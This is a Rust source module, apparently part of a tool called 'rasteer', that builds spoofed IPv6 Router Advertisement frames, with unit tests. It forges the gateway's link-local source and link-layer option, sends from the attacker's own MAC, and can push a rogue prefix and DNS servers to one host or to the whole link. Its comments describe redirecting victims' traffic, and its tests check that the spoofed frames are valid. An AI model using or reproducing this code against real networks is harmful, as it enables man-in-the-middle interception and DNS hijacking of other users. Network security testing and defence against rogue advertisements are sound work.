//! Router Advertisement frame builder
//!
//! Assembles the complete spoofed frame: Ethernet header with the real
//! transmit MAC as source, IPv6 header claiming the advertised gateway's
//! link-local address as source, and the ICMPv6 Router Advertisement with
//! its Neighbor Discovery options.
//!
//! The builder takes the advertised gateway as a single identity value so
//! the Source Link-Layer Address option and the spoofed IPv6 source can
//! never describe different routers, and it derives the Ethernet
//! destination from the IPv6 destination so the two stay paired.
//!
//! # Example
//!
//! ```
//! use rasteer_core::MacAddr;
//! use rasteer_packet::builder::{AdvertisedRouter, RaDestination, RaFrameBuilder};
//!
//! let gateway = AdvertisedRouter {
//!     mac: "6e:80:5a:e0:46:fe".parse().unwrap(),
//!     link_local: "fe80::6c80:5aff:fee0:46fe".parse().unwrap(),
//! };
//!
//! let frame = RaFrameBuilder::new(gateway, MacAddr([0x02, 0, 0, 0, 0, 0x01]))
//!     .destination(RaDestination::AllNodes)
//!     .prefix("2001:db8::".parse().unwrap(), 64)
//!     .router_lifetime(300)
//!     .dns_servers(vec!["2001:db8::1".parse().unwrap()])
//!     .build()
//!     .unwrap();
//! assert_eq!(&frame[0..6], &[0x33, 0x33, 0x00, 0x00, 0x00, 0x01]);
//! ```

use crate::ethernet::{EtherType, EthernetFrame};
use crate::ipv6::{Ipv6Packet, NextHeader};
use crate::ndp::RouterAdvertisement;
use rasteer_core::{Error, MacAddr, Result, ALL_NODES_ADDR};
use std::net::Ipv6Addr;

/// Neighbor Discovery uses a fixed hop limit on every message it emits.
const ND_HOP_LIMIT: u8 = 64;

/// The router identity a frame advertises.
///
/// `mac` is the gateway's real hardware address and `link_local` the
/// address the advertisement claims to originate from. They travel
/// together: recipients bind `link_local` to `mac` in their neighbor
/// cache, and redirected traffic only flows if that binding names the
/// machine that will answer it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AdvertisedRouter {
    pub mac: MacAddr,
    pub link_local: Ipv6Addr,
}

/// Where a frame is addressed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RaDestination {
    /// One specific device: Ethernet destination is the device MAC, IPv6
    /// destination its link-local address.
    Unicast { mac: MacAddr, addr: Ipv6Addr },
    /// Every host on the link: Ethernet destination 33:33:00:00:00:01,
    /// IPv6 destination ff02::1.
    AllNodes,
}

impl RaDestination {
    fn link_layer(&self) -> MacAddr {
        match self {
            RaDestination::Unicast { mac, .. } => *mac,
            RaDestination::AllNodes => MacAddr::ALL_NODES,
        }
    }

    fn network(&self) -> Ipv6Addr {
        match self {
            RaDestination::Unicast { addr, .. } => *addr,
            RaDestination::AllNodes => ALL_NODES_ADDR,
        }
    }
}

/// Builder for one spoofed Router Advertisement frame
pub struct RaFrameBuilder {
    gateway: AdvertisedRouter,
    transmit_mac: MacAddr,
    destination: Option<RaDestination>,
    prefix: Option<(Ipv6Addr, u8)>,
    router_lifetime: u16,
    dns_servers: Vec<Ipv6Addr>,
}

impl RaFrameBuilder {
    /// Create a builder for an advertisement of `gateway`, transmitted
    /// from the interface whose hardware address is `transmit_mac`.
    ///
    /// The transmit MAC becomes the Ethernet source; it is deliberately
    /// separate from the gateway identity carried inside the
    /// advertisement.
    pub fn new(gateway: AdvertisedRouter, transmit_mac: MacAddr) -> Self {
        Self {
            gateway,
            transmit_mac,
            destination: None,
            prefix: None,
            router_lifetime: 300,
            dns_servers: Vec::new(),
        }
    }

    /// Set the frame destination. Required.
    pub fn destination(mut self, destination: RaDestination) -> Self {
        self.destination = Some(destination);
        self
    }

    /// Advertise an on-link, autonomous prefix.
    pub fn prefix(mut self, prefix: Ipv6Addr, prefix_len: u8) -> Self {
        self.prefix = Some((prefix, prefix_len));
        self
    }

    /// Router lifetime in seconds; also used as the prefix valid and
    /// preferred lifetimes and the RDNSS lifetime.
    pub fn router_lifetime(mut self, secs: u16) -> Self {
        self.router_lifetime = secs;
        self
    }

    /// Recursive DNS servers to advertise. An empty list omits the RDNSS
    /// option entirely.
    pub fn dns_servers(mut self, servers: Vec<Ipv6Addr>) -> Self {
        self.dns_servers = servers;
        self
    }

    /// Build the frame.
    ///
    /// Fails if no destination was set; a directionless advertisement is
    /// refused rather than emitted.
    pub fn build(self) -> Result<Vec<u8>> {
        let destination = self
            .destination
            .ok_or_else(|| Error::frame("destination not set"))?;

        let dst_addr = destination.network();

        let mut ra = RouterAdvertisement::new().with_router_lifetime(self.router_lifetime);
        ra.cur_hop_limit = ND_HOP_LIMIT;

        if let Some((prefix, prefix_len)) = self.prefix {
            let lifetime = u32::from(self.router_lifetime);
            ra = ra.with_prefix(prefix, prefix_len, lifetime, lifetime);
        }

        // The link-layer address inside the advertisement is the
        // gateway's, never the transmitting interface's.
        ra = ra.with_source_ll(self.gateway.mac);

        if !self.dns_servers.is_empty() {
            ra = ra.with_rdnss(u32::from(self.router_lifetime), &self.dns_servers);
        }

        let icmp_bytes = ra.to_bytes_checksummed(&self.gateway.link_local, &dst_addr);

        let ip6 = Ipv6Packet::new(
            self.gateway.link_local,
            dst_addr,
            NextHeader::Icmpv6,
            icmp_bytes,
        )
        .with_hop_limit(ND_HOP_LIMIT);

        let frame = EthernetFrame::new(
            destination.link_layer(),
            self.transmit_mac,
            EtherType::IPv6,
            ip6.to_bytes(),
        );

        Ok(frame.to_bytes())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checksum::{validate_checksum, IPPROTO_ICMPV6};
    use crate::ndp::NdpOption;

    fn gateway() -> AdvertisedRouter {
        AdvertisedRouter {
            mac: "6e:80:5a:e0:46:fe".parse().unwrap(),
            link_local: "fe80::6c80:5aff:fee0:46fe".parse().unwrap(),
        }
    }

    fn transmit_mac() -> MacAddr {
        "02:00:00:00:00:01".parse().unwrap()
    }

    fn unicast_dest() -> RaDestination {
        RaDestination::Unicast {
            mac: "d2:8c:f5:e1:b4:f4".parse().unwrap(),
            addr: "fe80::d08c:f5ff:fee1:b4f4".parse().unwrap(),
        }
    }

    fn build_unicast() -> Vec<u8> {
        RaFrameBuilder::new(gateway(), transmit_mac())
            .destination(unicast_dest())
            .prefix("2001:db8::".parse().unwrap(), 64)
            .router_lifetime(300)
            .dns_servers(vec!["2001:db8::1".parse().unwrap()])
            .build()
            .unwrap()
    }

    #[test]
    fn test_refuses_without_destination() {
        let result = RaFrameBuilder::new(gateway(), transmit_mac())
            .prefix("2001:db8::".parse().unwrap(), 64)
            .build();
        assert!(result.is_err());
    }

    #[test]
    fn test_unicast_frame_layout() {
        let frame = build_unicast();

        // Ethernet: device MAC as destination, transmit MAC as source
        let device: MacAddr = "d2:8c:f5:e1:b4:f4".parse().unwrap();
        assert_eq!(&frame[0..6], device.as_bytes());
        assert_eq!(&frame[6..12], transmit_mac().as_bytes());
        assert_eq!(u16::from_be_bytes([frame[12], frame[13]]), 0x86DD);

        // IPv6: spoofed source, device link-local destination, hop limit 64
        assert_eq!(frame[20], 58);
        assert_eq!(frame[21], 64);
        assert_eq!(&frame[22..38], &gateway().link_local.octets());
        let dst: Ipv6Addr = "fe80::d08c:f5ff:fee1:b4f4".parse().unwrap();
        assert_eq!(&frame[38..54], &dst.octets());

        // ICMPv6 Router Advertisement
        assert_eq!(frame[54], 134);
        assert_eq!(frame[55], 0);
        assert_eq!(frame[58], 64); // cur hop limit
        assert_eq!(frame[59], 0); // M=0, O=0
        assert_eq!(u16::from_be_bytes([frame[60], frame[61]]), 300);
    }

    #[test]
    fn test_all_nodes_pairing_is_enforced() {
        let frame = RaFrameBuilder::new(gateway(), transmit_mac())
            .destination(RaDestination::AllNodes)
            .prefix("2001:db8::".parse().unwrap(), 64)
            .build()
            .unwrap();

        assert_eq!(&frame[0..6], MacAddr::ALL_NODES.as_bytes());
        assert_eq!(&frame[38..54], &ALL_NODES_ADDR.octets());
    }

    #[test]
    fn test_sll_option_carries_gateway_mac_not_transmit_mac() {
        let frame = build_unicast();

        // Walk options after the 16-byte RA fixed part
        let mut offset = 54 + 16;
        let mut sll_mac = None;
        while offset + 2 <= frame.len() {
            let Some((opt, consumed)) = NdpOption::from_bytes(&frame[offset..]) else {
                break;
            };
            if opt.option_type == crate::ndp::NdpOptionType::SourceLinkLayerAddress {
                sll_mac = Some(MacAddr([
                    opt.data[0], opt.data[1], opt.data[2], opt.data[3], opt.data[4], opt.data[5],
                ]));
            }
            offset += consumed;
        }

        let sll_mac = sll_mac.expect("frame carries an SLL option");
        assert_eq!(sll_mac, gateway().mac);
        assert_ne!(sll_mac, transmit_mac());
    }

    #[test]
    fn test_prefix_and_rdnss_options_present() {
        let frame = build_unicast();
        let prefix: Ipv6Addr = "2001:db8::".parse().unwrap();
        let dns: Ipv6Addr = "2001:db8::1".parse().unwrap();

        let mut saw_prefix = false;
        let mut saw_rdnss = false;
        let mut offset = 54 + 16;
        while offset + 2 <= frame.len() {
            let Some((opt, consumed)) = NdpOption::from_bytes(&frame[offset..]) else {
                break;
            };
            match opt.option_type {
                crate::ndp::NdpOptionType::PrefixInformation => {
                    assert_eq!(opt.data[0], 64);
                    assert_eq!(&opt.data[14..30], &prefix.octets());
                    saw_prefix = true;
                }
                crate::ndp::NdpOptionType::RecursiveDnsServer => {
                    assert_eq!(&opt.data[6..22], &dns.octets());
                    saw_rdnss = true;
                }
                _ => {}
            }
            offset += consumed;
        }

        assert!(saw_prefix);
        assert!(saw_rdnss);
    }

    #[test]
    fn test_rdnss_omitted_when_dns_empty() {
        let frame = RaFrameBuilder::new(gateway(), transmit_mac())
            .destination(unicast_dest())
            .prefix("2001:db8::".parse().unwrap(), 64)
            .build()
            .unwrap();

        let mut offset = 54 + 16;
        while offset + 2 <= frame.len() {
            let Some((opt, consumed)) = NdpOption::from_bytes(&frame[offset..]) else {
                break;
            };
            assert_ne!(
                opt.option_type,
                crate::ndp::NdpOptionType::RecursiveDnsServer
            );
            offset += consumed;
        }
    }

    #[test]
    fn test_checksum_is_valid_for_spoofed_source() {
        let frame = build_unicast();

        // Reconstruct the pseudo-header from the frame itself and verify
        let src = &frame[22..38];
        let dst = &frame[38..54];
        let payload_len = u16::from_be_bytes([frame[18], frame[19]]) as usize;
        let icmp = &frame[54..54 + payload_len];

        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(src);
        pseudo.extend_from_slice(dst);
        pseudo.extend_from_slice(&(payload_len as u32).to_be_bytes());
        pseudo.extend_from_slice(&[0, 0, 0, IPPROTO_ICMPV6]);
        pseudo.extend_from_slice(icmp);
        assert!(validate_checksum(&pseudo));
    }
}
